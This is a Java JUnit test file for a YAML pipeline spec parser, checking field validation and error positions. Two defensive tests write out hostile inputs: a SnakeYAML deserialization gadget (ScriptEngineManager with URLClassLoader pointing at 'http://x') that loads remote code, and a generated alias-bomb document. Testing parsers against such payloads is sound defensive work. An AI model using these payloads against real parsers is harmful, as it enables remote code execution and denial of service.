package io.baton.pipeline;

import static io.baton.pipeline.SpecTesting.problem;
import static io.baton.pipeline.SpecTesting.problems;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class SpecParserTest {
    /** The exact example of API.md, section "The spec: baton.yaml". */
    static final String API_MD_EXAMPLE = """
      name: iris                      # [a-z0-9][a-z0-9-]{0,62}
      parameters:                     # a list, in order
        - {name: max_depth, type: integer, default: 3, min: 1, max: 12, description: "..."}
        - {name: model, type: enum, choices: [tree, forest], default: tree}
      steps:
        - name: preprocess
          command: ["python3", "preprocess.py"]       # or one string, split shell-style
          outputs: [data.npz]                         # files or globs under $BATON_OUTPUTS
        - name: train
          needs: [preprocess]
          pool: cpu                                   # default cpu
          image: python:3.11-slim                     # recorded; used by container runners
          inputs: {data: preprocess/data.npz}         # input name -> step/path | sha256:<hex> | dataset://name/3 | model://name@alias
          command: ["python3", "train.py", "--max-depth", "{parameters.max_depth}"]
          matrix: {lr: [0.1, 0.01]}                   # one step per combination: train[lr=0.1], ...
          env: {OMP_NUM_THREADS: "1"}
          resources: {cpus: 1, memory: 2Gi, gpus: 0}
          retries: 3                                  # or {retries: 3, backoff: 10s, maxBackoff: 5m}
          timeout: 30m                                # durations: 500ms 30s 10m 2h
          heartbeatTimeout: 30s
          cache: false
          approval: false
      """;

    @Test
    void parsesFullApiMdExample() {
        assertThat(SpecParser.validate(API_MD_EXAMPLE)).isEmpty();
        PipelineSpec spec = SpecParser.parse(API_MD_EXAMPLE);

        assertThat(spec.name()).isEqualTo("iris");
        assertThat(spec.parameters())
                .containsExactly(
                        new ParameterSpec("max_depth", ParameterType.INTEGER, 3L, 1.0, 12.0, List.of(), "..."),
                        new ParameterSpec(
                                "model", ParameterType.ENUM, "tree", null, null, List.of("tree", "forest"), null));

        StepSpec preprocess = spec.steps().get(0);
        assertThat(preprocess)
                .isEqualTo(new StepSpec(
                        "preprocess",
                        List.of("python3", "preprocess.py"),
                        "cpu",
                        List.of(),
                        Map.of(),
                        RetrySpec.NONE,
                        null,
                        null,
                        null,
                        Map.of(),
                        List.of("data.npz"),
                        ResourcesSpec.DEFAULT,
                        false,
                        false,
                        Map.of(),
                        null));

        StepSpec train = spec.steps().get(1);
        assertThat(train.name()).isEqualTo("train");
        assertThat(train.needs()).containsExactly("preprocess");
        assertThat(train.pool()).isEqualTo("cpu");
        assertThat(train.image()).isEqualTo("python:3.11-slim");
        assertThat(train.inputs()).containsExactly(Map.entry("data", "preprocess/data.npz"));
        assertThat(train.command()).containsExactly("python3", "train.py", "--max-depth", "{parameters.max_depth}");
        assertThat(train.matrix()).containsExactly(Map.entry("lr", List.of(0.1, 0.01)));
        assertThat(train.env()).containsExactly(Map.entry("OMP_NUM_THREADS", "1"));
        assertThat(train.resources()).isEqualTo(new ResourcesSpec(1.0, 2L * 1024 * 1024 * 1024, 0));
        assertThat(train.retries())
                .isEqualTo(new RetrySpec(3, RetrySpec.DEFAULT_BACKOFF, RetrySpec.DEFAULT_MAX_BACKOFF));
        assertThat(train.timeout()).isEqualTo(Duration.ofMinutes(30));
        assertThat(train.heartbeatTimeout()).isEqualTo(Duration.ofSeconds(30));
        assertThat(train.cache()).isFalse();
        assertThat(train.approval()).isFalse();
    }

    @Test
    void reportsEveryProblemAtOnceWithLineAndColumn() {
        String yaml = """
        name: Bad_Name
        colour: blue
        parameters:
          - {name: lr, type: float, default: fast}
        steps:
          - name: a
            command: [run, "{parameters.nope}"]
            needs: [ghost]
            cache: yes-please
          - name: a
            command: run
            timeout: 10 minutes
        """;
        List<SpecProblem> problems = problems(yaml);
        assertThat(problems)
                .extracting(SpecProblem::path, SpecProblem::line, SpecProblem::column)
                .containsExactly(
                        tuple("name", 1, 7),
                        tuple("colour", 2, 1),
                        tuple("parameters[0].default", 4, 38),
                        tuple("steps[0].command[1]", 7, 20),
                        tuple("steps[0].needs[0]", 8, 13),
                        tuple("steps[0].cache", 9, 12),
                        tuple("steps[1].name", 10, 11),
                        tuple("steps[1].timeout", 12, 14));
        assertThat(problems.get(0).message()).contains("'Bad_Name' is not a valid name");
        assertThat(problems.get(1).message())
                .isEqualTo("unknown key 'colour'; allowed: name, description, parameters, steps");
        assertThat(problems.get(2).message()).contains("must be a number").contains("'fast'");
        assertThat(problems.get(3).message()).contains("{parameters.nope}");
        assertThat(problems.get(4).message()).isEqualTo("needs names unknown step 'ghost'");
        assertThat(problems.get(5).message()).isEqualTo("expected true or false, found string 'yes-please'");
        assertThat(problems.get(6).message()).isEqualTo("duplicate step name 'a' (first at line 6)");
        assertThat(problems.get(7).message()).contains("'10 minutes' is not a duration");

        SpecException e =
                org.assertj.core.api.Assertions.catchThrowableOfType(() -> SpecParser.parse(yaml), SpecException.class);
        assertThat(e.getMessage())
                .isEqualTo("invalid spec: name (line 1): " + problems.get(0).message()
                        + " (and 7 more problem(s), see details)");
    }

    @Test
    void rejectsNotYaml() {
        SpecProblem p = problem("name: p\nsteps: [a, b\n  x: : y\n");
        assertThat(p.path()).isEmpty();
        assertThat(p.message()).startsWith("not valid YAML: ");
        assertThat(p.line()).isEqualTo(3);
        assertThat(p.column()).isNotNull();
    }

    @Test
    void rejectsNotYamlWithTheReasonAndPosition() {
        SpecProblem p = problem("name: p\nsteps:\n  - name: \"unterminated\n");
        assertThat(p.path()).isEmpty();
        assertThat(p.message()).startsWith("not valid YAML: ").contains("quoted scalar");
        assertThat(p.line()).isEqualTo(4);
    }

    @Test
    void rejectsTabIndentationAsNotYaml() {
        SpecProblem p = problem("name: p\nsteps:\n\t- name: a\n");
        assertThat(p.message()).startsWith("not valid YAML: ").contains("\\t");
        assertThat(p.line()).isEqualTo(3);
        assertThat(p.column()).isEqualTo(1);
    }

    @Test
    void rejectsEmptyDocument() {
        for (String empty : new String[] {"", "   \n", "# only a comment\n", "---\n", "~\n"}) {
            SpecProblem p = problem(empty);
            assertThat(p.path()).isEmpty();
            assertThat(p.message()).isEqualTo("the spec is empty; expected a mapping with at least name and steps");
            assertThat(p.line()).isEqualTo(1);
        }
        assertThat(SpecParser.validate(null)).hasSize(1);
    }

    @Test
    void rejectsTopLevelThatIsNotAMapping() {
        SpecProblem list = problem("- name: p\n- steps: []\n");
        assertThat(list.message())
                .isEqualTo("expected a mapping with at least name and steps at the top of the spec, found a list");
        assertThat(list.line()).isEqualTo(1);
        assertThat(problem("just words\n").message()).endsWith("found string 'just words'");
    }

    @Test
    void rejectsMoreThanOneDocument() {
        SpecProblem p = problem("name: p\nsteps: [{name: a, command: x}]\n---\nname: q\n");
        assertThat(p.message()).startsWith("not valid YAML: ").contains("single document");
        assertThat(p.line()).isEqualTo(3);
    }

    @Test
    void rejectsSpecWithoutSteps() {
        SpecProblem missing = problem("name: p\n");
        assertThat(missing).isEqualTo(new SpecProblem("steps", 1, 1, "the spec has no steps"));
        SpecProblem empty = problem("name: p\nsteps: []\n");
        assertThat(empty).isEqualTo(new SpecProblem("steps", 2, 8, "the spec has no steps"));
        SpecProblem nothing = problem("name: p\nsteps:\n");
        assertThat(nothing.message()).isEqualTo("the spec has no steps");
    }

    @Test
    void rejectsSpecWithoutName() {
        assertThat(problem("steps: [{name: a, command: x}]\n"))
                .isEqualTo(new SpecProblem("name", 1, 1, "name is required"));
    }

    @Test
    void acceptsValidPipelineNamesAndRejectsOthers() {
        String ok = "name: %s\nsteps: [{name: a, command: x}]\n";
        assertThat(SpecParser.parse(ok.formatted("a")).name()).isEqualTo("a");
        assertThat(SpecParser.parse(ok.formatted("0-iris-2")).name()).isEqualTo("0-iris-2");
        assertThat(SpecParser.parse(ok.formatted("a".repeat(63))).name()).hasSize(63);
        for (String bad : new String[] {"Iris", "-iris", "iris_2", "a".repeat(64), "\"\"", "ir is"}) {
            SpecProblem p = problem(ok.formatted(bad));
            assertThat(p.path()).as(bad).isEqualTo("name");
            assertThat(p.message()).as(bad).contains("is not a valid name");
        }
    }

    @Test
    void rejectsUnknownKeysAtEveryLevel() {
        String yaml = """
        name: p
        extra: 1
        parameters:
          - {name: a, colour: red}
        steps:
          - name: s
            command: [x]
            needz: [t]
            resources: {cpu: 2}
            retries: {retries: 1, jitter: 2s}
        """;
        assertThat(problems(yaml))
                .extracting(SpecProblem::path, SpecProblem::line, SpecProblem::message)
                .containsExactly(
                        tuple("extra", 2, "unknown key 'extra'; allowed: name, description, parameters, steps"),
                        tuple(
                                "parameters[0].colour",
                                4,
                                "unknown key 'colour'; allowed: name, type, default, min, max, choices,"
                                        + " description"),
                        tuple(
                                "steps[0].needz",
                                8,
                                "unknown key 'needz'; allowed: name, command, needs, pool, image, inputs,"
                                        + " outputs, env, resources, retries, timeout, heartbeatTimeout, cache, approval, matrix, register,"
                                        + " secrets"),
                        tuple("steps[0].resources.cpu", 9, "unknown key 'cpu'; allowed: cpus, memory, gpus"),
                        tuple(
                                "steps[0].retries.jitter",
                                10,
                                "unknown key 'jitter'; allowed: retries, backoff, maxBackoff"));
    }

    @Test
    void rejectsDuplicateKeys() {
        SpecProblem p = problem("name: p\nname: q\nsteps: [{name: a, command: x}]\n");
        assertThat(p).isEqualTo(new SpecProblem("name", 2, 1, "duplicate key 'name' (first at line 1)"));
    }

    @Test
    void acceptsDescription() {
        assertThat(SpecParser.validate("name: p\ndescription: trains iris\nsteps: [{name: a, command: x}]\n"))
                .isEmpty();
        assertThat(problem("name: p\ndescription: [a]\nsteps: [{name: a, command: x}]\n")
                        .message())
                .isEqualTo("expected a string, found a list");
    }

    @Test
    void refusesArbitraryTypeTags() {
        String yaml = """
        name: p
        steps:
          - name: a
            command: [!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]]
        """;
        // SnakeYAML's tag inspector stops at the first global tag, before any object could be made.
        SpecProblem p = problem(yaml);
        assertThat(p.message())
                .isEqualTo("unsupported YAML tag !!javax.script.ScriptEngineManager; only strings,"
                        + " numbers, booleans, null, lists and mappings are allowed");
        assertThat(p.path()).isEmpty();
        assertThat(p.line()).isEqualTo(4);
        SpecProblem scalar = problem("name: !foo p\nsteps: [{name: a, command: x}]\n");
        assertThat(scalar)
                .isEqualTo(new SpecProblem(
                        "name",
                        1,
                        7,
                        "unsupported YAML tag !foo; only strings, numbers,"
                                + " booleans, null, lists and mappings are allowed"));
        SpecProblem binary = problem("name: p\nsteps: [{name: a, command: !!binary aGVsbG8=}]\n");
        assertThat(binary.path()).isEqualTo("steps[0].command");
        assertThat(binary.message()).startsWith("unsupported YAML tag !!binary;");
    }

    @Test
    void refusesAliasBombs() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 10; i++) {
            String prev = "*a" + (i - 1);
            yaml.append("a")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(10, prev)))
                    .append("]\n");
        }
        SpecProblem p = problem(yaml.toString());
        assertThat(p.message()).startsWith("not valid YAML: ").containsIgnoringCase("aliases");
    }

    @Test
    void refusesDeeplyNestedDocuments() {
        String yaml = "name: p\nsteps: " + "[".repeat(100) + "]".repeat(100) + "\n";
        assertThat(problem(yaml).message()).startsWith("not valid YAML: ").containsIgnoringCase("nesting");
    }

    @Test
    void readsYamlByTheCoreSchemaSoYesAndNoStayStrings() {
        StepSpec step = SpecTesting.onlyStep(
                SpecTesting.oneStep("env: {COUNTRY: NO, FLAG: yes, OCT: 010, T: 1:30}", "matrix: {x: [no, off, 010]}"));
        assertThat(step.env())
                .containsExactly(
                        Map.entry("COUNTRY", "NO"),
                        Map.entry("FLAG", "yes"),
                        Map.entry("OCT", "010"),
                        Map.entry("T", "1:30"));
        assertThat(step.matrix().get("x")).containsExactly("no", "off", 10L);
        SpecProblem p = problem(SpecTesting.oneStep("cache: yes"));
        assertThat(p.message()).isEqualTo("expected true or false, found string 'yes'");
    }

    @Test
    void supportsAnchorsAndMergeKeysForSharedStepSettings() {
        String yaml = """
        name: p
        steps:
          - &base
            name: a
            command: [run]
            pool: gpu
            env: {A: "1"}
          - <<: *base
            name: b
            env: {B: "2"}
        """;
        PipelineSpec spec = SpecParser.parse(yaml);
        assertThat(spec.steps())
                .extracting(StepSpec::name, StepSpec::pool)
                .containsExactly(tuple("a", "gpu"), tuple("b", "gpu"));
        assertThat(spec.steps().get(1).env()).containsExactly(Map.entry("B", "2"));
    }

    @Test
    void parseThrowsSpecExceptionAndValidateReturnsEmptyForValidSpec() {
        assertThat(SpecParser.validate(SpecTesting.oneStep())).isEmpty();
        assertThatThrownBy(() -> SpecParser.parse("name: p\n"))
                .isInstanceOf(SpecException.class)
                .hasMessage("invalid spec: steps (line 1): the spec has no steps");
    }

    @Test
    void countsLinesTheSameWithWindowsLineEndingsAndAByteOrderMark() {
        String yaml = "\uFEFFname: p\r\nsteps:\r\n  - name: a\r\n    command: [x]\r\n    cache: maybe\r\n";
        assertThat(problem(yaml))
                .isEqualTo(new SpecProblem("steps[0].cache", 5, 12, "expected true or false, found string 'maybe'"));
    }

    @Test
    void reportsASelfReferencingListInsteadOfLooping() {
        SpecProblem p = problem("name: p\nsteps:\n  - name: a\n    command: &c [x, *c]\n");
        assertThat(p)
                .isEqualTo(new SpecProblem(
                        "steps[0].command[1]", 4, 14, "expected an argument (a string or number), found a list"));
    }

    @Test
    void rejectsIntegersOutOfRangeAndMalformedExplicitTags() {
        assertThat(problem(SpecTesting.oneStep("retries: 99999999999999999999")).message())
                .isEqualTo("integer 99999999999999999999 is out of range");
        assertThat(problem(SpecTesting.oneStep("retries: !!int abc")).message()).isEqualTo("'abc' is not an integer");
        assertThat(SpecTesting.onlyStep(SpecTesting.oneStep("retries: !!int 0x10"))
                        .retries()
                        .retries())
                .isEqualTo(16);
    }
}
